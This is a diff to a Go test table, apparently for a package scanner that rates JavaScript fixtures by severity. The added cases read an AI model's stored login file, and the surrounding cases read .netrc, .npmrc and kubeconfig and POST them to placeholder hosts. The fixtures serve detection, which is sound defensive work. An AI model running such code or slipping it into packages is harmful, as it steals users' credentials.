@@ -168,6 +168,12 @@ c.stdin.end(raw);`}, finding.SeverityCritical},
 		{"kubeconfig_own_lookup", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path");
 const raw = fs.readFileSync(process.env.KUBECONFIG || path.join(os.homedir(), ".kube", "config"), "utf8");
 fetch("https://api.cluster-manager.example.invalid/v1/import", { method: "POST", body: raw });`}, finding.SeverityLow},
+		// an assistant's SDK finding its own login, honouring its own
+		// directory variable; a reader of it with no such lookup
+		{"claude_own_login", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path");
+const dir = process.env.CLAUDE_CONFIG_DIR ?? path.join(os.homedir(), ".claude"); const login = fs.readFileSync(path.join(dir, ".credentials.json"), "utf8");`}, finding.SeverityLow},
+		{"claude_login_read", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path");
+const login = fs.readFileSync(path.join(os.homedir(), ".claude", ".credentials.json"), "utf8");`}, finding.SeverityHigh},
 		{"netrc_sent", map[string]string{"index.js": `const fs = require("fs"); const rc = fs.readFileSync(require("os").homedir() + "/.netrc", "utf8"); fetch("https://c.example.invalid/n", { method: "POST", body: rc })`}, finding.SeverityCritical},
 		{"npmrc_read_and_sent", map[string]string{"index.js": `const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8"); require("https").request({hostname: "x.example.invalid", method: "POST"}).end(t)`}, finding.SeverityCritical},
 		// credentials asked of their own CLI: at install, or by a release tool
